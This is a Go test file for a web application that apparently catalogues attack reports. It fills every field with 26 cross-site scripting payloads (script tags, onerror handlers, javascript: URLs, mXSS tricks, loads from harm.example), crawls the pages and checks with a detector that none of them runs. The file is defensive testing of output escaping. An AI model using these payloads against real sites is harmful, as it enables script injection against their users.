package web

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"dateline"
	"dateline/internal/draw"
	"dateline/internal/ledger"
	"dateline/internal/link"

	"golang.org/x/net/html"
)

// harms are words that run a script, or call another host, wherever they are taken for markup: each in its own way. All
// set window.hurt. They were written for this test.
var harms = []string{
	`<script>hurt=1</script>h01`,
	`<ScRiPt src=//harm.example/h02.js></sCrIpT >h02`,
	`"><img src=x onerror=hurt=3>h03`,
	`'><svg/onload=hurt=4>h04`,
	`javascript:hurt=5//h05`,
	"\tjava\nscript:hurt=6//h06",
	`data:text/html,<script>hurt=7</script>h07`,
	`</title><script>hurt=8</script>h08`,
	`</textarea></script></style><img src onerror=hurt=9>h09`,
	`<!--><img src onerror=hurt=10>-->h10`,
	`<![CDATA[><svg onload=hurt=11>]]>h11`,
	`<math><mtext><mglyph><style><img title="</style><img src onerror=hurt=12>">h12`,
	`<noscript><p title="</noscript><img src onerror=hurt=13>">h13`,
	`<form action=javascript:hurt=14 id=f><button form=f autofocus onfocus=hurt=14>h14`,
	`<iframe srcdoc="&lt;script&gt;parent.hurt=15&lt;/script&gt;">h15`,
	`<object data=//harm.example/h16.html><embed src=//harm.example/h16.html>h16`,
	`<base href=//harm.example/><link rel=stylesheet href=h17.css>h17`,
	`<meta http-equiv=refresh content="0;url=//harm.example/h18">h18`,
	`<svg><a xlink:href=javascript:hurt=19><animate attributeName=href values=javascript:hurt=19 /><text y=9>h19`,
	`<div style="background:url(//harm.example/h20.png)">h20`,
	`{{.Secret}}${hurt=21}<%=hurt=21%>#{hurt=21}h21`,
	`&lt;script&gt;hurt=22&lt;/script&gt;&#60;img src onerror=hurt=22&#62;h22`,
	`\x3cscript\x3ehurt=23\u003c/script\u003e'-hurt=23-'\";hurt=23;//h23`,
	`" onmouseover="hurt=24" autofocus onfocus="hurt=24" x="h24`,
	`<details open ontoggle=hurt=25><video src=//harm.example/h25.mp4 onerror=hurt=25>h25`,
	`=HYPERLINK("//harm.example/h26")<template><script>hurt=26</script></template><a href=//harm.example/h26 ping=//harm.example/h26>h26`,
}

// harmful is a report that has a harm in every field, and all that can be read in it.
func harmful(i int, harm string) dateline.Reading {
	t := report(harm, harm, "2016-03-04", fmt.Sprintf("%s attacked %s with %s in %s on %s and killed %s, said %s. %s is also known as %s, led by %s, with %s fighters. %s has joined %s. “%s,” said %s.\n\n%s ends here.",
		harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm, harm))
	t.r.Report.File, t.r.Report.URL, t.r.Report.Language, t.r.Report.Flags = harm, harm, harm, []string{harm}
	t.r.Report.Basis = harm
	t.r.Report.SetID()
	actor, words := meant{}.is(fmt.Sprintf("new:Harm%d %s", i, harm)).meaning, dateline.Resolution{State: dateline.Ambiguous, Others: []string{harm, "new:" + harm}, Why: harm, Type: dateline.PartyType(harm)}
	actor.Why = harm
	as := func(role dateline.Role, r dateline.Resolution) meant {
		return meant{role: role, words: harm, meaning: r}
	}
	voice := meant{words: harm, class: dateline.Expert, about: harm, meaning: words}
	place := dateline.Resolution{State: dateline.Known, Place: &dateline.Place{ID: harm, Name: harm, Country: harm, Admin1: harm, Lat: 11, Lon: 13, Precision: dateline.Settlement, Inferred: harm}, Why: harm}
	day := dateline.Resolution{State: dateline.Known, Date: &dateline.Date{EDTF: harm, From: "2016-03-03", To: "2016-03-03", Anchor: dateline.AnchorText, Why: harm}, Why: harm}
	n := dateline.Between(3, 5)
	n.Word, n.Convention = harm, harm
	count := dateline.Resolution{State: dateline.Known, Count: &n, Why: harm}
	base := dateline.Statement{Rule: harm, Why: harm, Score: .5}
	sentence := t.r.Report.Text[:strings.LastIndex(t.r.Report.Text, "\n\n")]
	say := func(k dateline.Kind, with ...meant) {
		s := base
		s.Kind = k
		t.say(s, sentence, harm, append(with, as(dateline.PlaceRole, place), as(dateline.DateRole, day))...)
	}
	say(dateline.Bombing, voice, as(dateline.Perpetrator, actor), as(dateline.Target, words), as(dateline.Victim, count), as(dateline.Weapon, words), as(dateline.KilledRole, count))
	first := t.r.Statements[0].ID
	base.Refers = first
	say(dateline.Claim, voice, as(dateline.Group, actor))
	say(dateline.Denial, voice, as(dateline.Group, actor))
	base.Refers = ""
	say(dateline.Alias, as(dateline.Group, actor), as(dateline.Name, words))
	say(dateline.Strength, voice, as(dateline.Group, actor), as(dateline.Fighters, count))
	say(dateline.Alliance, as(dateline.Group, actor), as(dateline.Other, words))
	say(dateline.Assessment, voice, as(dateline.About, actor))
	say(dateline.Kind(harm), as(dateline.Group, actor))
	t.r.Doubts = []dateline.Doubt{{Span: t.find(0, harm), Why: harm}}
	return t.r
}

// harmed is a ledger of harmful reports alone, with rulings, and its pages.
func harmed(t *testing.T) (rs []dateline.Reading, h http.Handler) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "harm<img src onerror=hurt=0>.db")
	l, err := ledger.Open(path, ledger.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	for i, harm := range harms {
		rs = append(rs, harmful(i, harm))
	}
	if _, err := l.KeepAll(t.Context(), rs, harms[0]); err != nil {
		t.Fatal(err)
	}
	if err := l.SetIncidents(t.Context(), link.Link(rs, nil)); err != nil {
		t.Fatal(err)
	}
	for i, harm := range harms {
		d := dateline.Decision{Ruling: dateline.Correct, On: []string{rs[i].Statements[0].ID}, Part: 0, Value: harm, Author: harm, Reason: harm,
			At: time.Date(2024, 1, 2, 3, 4, i, 0, time.UTC), Means: &dateline.Resolution{Actor: harm, Others: []string{harm}}}
		d.SetID()
		if err := l.Decide(t.Context(), d); err != nil {
			t.Fatal(err)
		}
	}
	return rs, Handler(viewed(t, path), Options{Log: quiet, Notice: harms[2]})
}

// harmless fails unless an answer is nothing that a browser would run, or ask another host for.
func harmless(t *testing.T, at string, w *httptest.ResponseRecorder) {
	t.Helper()
	h := w.Header()
	if h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("%s: sent without its policy: %v", at, h)
	}
	if to := h.Get("Location"); to != "" && (to[0] != '/' || strings.HasPrefix(to, "//") || strings.ContainsAny(to, "\\\n\t<>\"")) {
		t.Errorf("%s leads to %q", at, to)
	}
	kind, _, _ := strings.Cut(h.Get("Content-Type"), ";")
	switch kind {
	case "text/html", "image/svg+xml":
		for _, n := range nodes(t, w.Body.String()) {
			if n.Data == "style" && h.Get("Content-Security-Policy") == draw.AlonePolicy {
				continue // a drawing's own, which the policy names by its sum
			}
			if why := harmOf(n); why != "" {
				t.Errorf("%s: %s in <%s %v>", at, why, n.Data, n.Attr)
			}
		}
	case "application/json", "application/geo+json":
		if !json.Valid(w.Body.Bytes()) {
			t.Errorf("%s: no JSON", at)
		}
	case "text/csv", "text/javascript", "text/css", "text/plain", "application/vnd.citationstyles.csl+json", "application/x-bibtex", "application/x-research-info-systems":
	default:
		t.Errorf("%s: is %q", at, kind)
	}
}

// harmOf says what harm an element can do; "" for none.
func harmOf(n *html.Node) string {
	switch n.Data {
	case "script":
		if src := attr(n, "src"); !strings.HasPrefix(src, "/script/") || n.FirstChild != nil {
			return "a script"
		}
	case "iframe", "object", "embed", "base", "style", "math", "foreignObject", "animate", "set", "video", "audio", "noscript", "frame", "applet":
		return "an element that no page of ours has"
	case "template":
		if attr(n.Parent, "data-module") == "" { // what a module of ours builds with
			return "an element that no page of ours has there"
		}
	case "meta":
		if attr(n, "http-equiv") != "" {
			return "a header of its own"
		}
	}
	for _, a := range n.Attr {
		key := strings.ToLower(a.Key)
		switch {
		case strings.HasPrefix(key, "on") || key == "style" || key == "srcdoc" || key == "ping" || key == "srcset":
			return "an attribute that no page of ours has: " + key
		case key == "href" || key == "src" || key == "action" || key == "formaction" || key == "data" || key == "poster" || key == "background":
			if v := a.Val; v != "" && (!strings.ContainsRune("/#?", rune(v[0])) || strings.HasPrefix(v, "//") || strings.HasPrefix(v, `/\`)) {
				return "an address that is not ours: " + v
			}
		}
	}
	return ""
}

// links are the addresses of ours that a page leads to, without fragments.
func links(t *testing.T, page string) (out []string) {
	for _, n := range nodes(t, page) {
		for _, key := range []string{"href", "src"} {
			if to, _, _ := strings.Cut(attr(n, key), "#"); strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "//") {
				out = append(out, to)
			}
		}
	}
	return out
}

// mostPages is how many pages the test opens: those of one sort, with another selection, go on for ever.
const mostPages = 700

// Every page that can be reached in a ledger of harmful reports, and every page that says no, is harmless, and shows the
// words as words.
func TestHarmfulReportsDoNoHarm(t *testing.T) {
	rs, h := harmed(t)
	ask := func(method, at string, body string) *httptest.ResponseRecorder {
		w, r := httptest.NewRecorder(), httptest.NewRequest(method, "/", strings.NewReader(body))
		u, err := url.Parse(at)
		if err != nil {
			t.Fatal(err)
		}
		r.URL = u
		if body != "" {
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		h.ServeHTTP(w, r)
		harmless(t, at, w)
		return w
	}
	most := mostPages
	if testing.Short() {
		most /= 7
	}
	seen, waiting := map[string]bool{}, []string{"/", "/incidents", "/reports", "/about", "/kinds", "/timeline", "/map", "/network", "/trend", "/timeline/data", "/map/data", "/timeline.svg", "/map.svg", "/network.svg", "/trend.svg", "/review"}
	for _, r := range rs {
		waiting = append(waiting, "/reports/"+r.Report.ID)
	}
	for len(waiting) > 0 && len(seen) < most {
		at := waiting[0]
		waiting = waiting[1:]
		if seen[at] {
			continue
		}
		seen[at] = true
		w := ask("GET", at, "")
		if strings.HasPrefix(w.Header().Get("Content-Type"), "text/html") && !strings.Contains(at, "?") {
			waiting = append(waiting, links(t, w.Body.String())...)
		}
	}
	if len(seen) < most {
		t.Errorf("only %d pages were found", len(seen))
	}
	for i, harm := range harms {
		page := ask("GET", "/reports/"+rs[i].Report.ID, "")
		if text := textOf(t, page.Body.String()); page.Code != 200 || !strings.Contains(text, tidy(harm)) {
			t.Errorf("the page of report %d is %d and does not show %q", i, page.Code, harm)
		}
		esc, q := url.PathEscape(harm), url.QueryEscape(harm)
		for _, at := range []string{"/" + esc, "/groups/" + esc, "/groups/boko-haram?at=" + q, "/groups/boko-haram?rule=" + q, "/groups/boko-haram?all=" + q,
			"/incidents/" + esc, "/reports/" + esc, "/statements/" + esc, "/facets/" + esc, "/facets/group?q=" + q, "/static/" + esc, "/script/x/" + esc,
			"/incidents?q=" + q, "/incidents?group=" + q + "&kind=" + q + "&country=" + q + "&place=" + q + "&speaker=" + q + "&source=" + q + "&review=" + q,
			"/incidents?from=" + q, "/incidents?order=" + q, "/incidents?skip=" + q, "/reports?q=" + q, "/reports?from=" + q, "/search?q=" + q, "/incidents?" + q + "=" + q,
			"/timeline?by=" + q, "/map?at=" + q, "/network?at=" + q, "/trend?by=" + q, "/sources/" + esc, "/review?field=" + q} {
			ask("GET", at, "")
		}
		ask("POST", "/decisions", url.Values{"ruling": {"accept"}, "on": {rs[i].Statements[0].ID}, "reason": {harm}, "author": {harm}, "next": {harm}, "seen": {""}}.Encode())
		ask("POST", "/decisions", url.Values{"ruling": {harm}, "on": {harm}, "part": {harm}, "value": {harm}, harm: {harm}}.Encode())
	}
}

// textOf is the text of a page as a reader sees it.
func textOf(t *testing.T, page string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for n := range doc.Descendants() {
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
	}
	return b.String()
}

// The test itself sees harm where there is some.
func TestHarmIsSeen(t *testing.T) {
	if len(harms) != 26 {
		t.Errorf("there are %d harms", len(harms))
	}
	for _, harm := range harms {
		found := ""
		for _, page := range []string{"<p>" + harm, `<p title="` + harm + `">`, `<p title='` + harm + `'>`, `<a href="` + harm + `">x</a>`, "<title>" + harm, "<script>'" + harm + "'</script>"} {
			for _, n := range nodes(t, page) {
				found += harmOf(n)
			}
		}
		if found == "" {
			t.Errorf("no harm is seen in %q", harm)
		}
	}
}
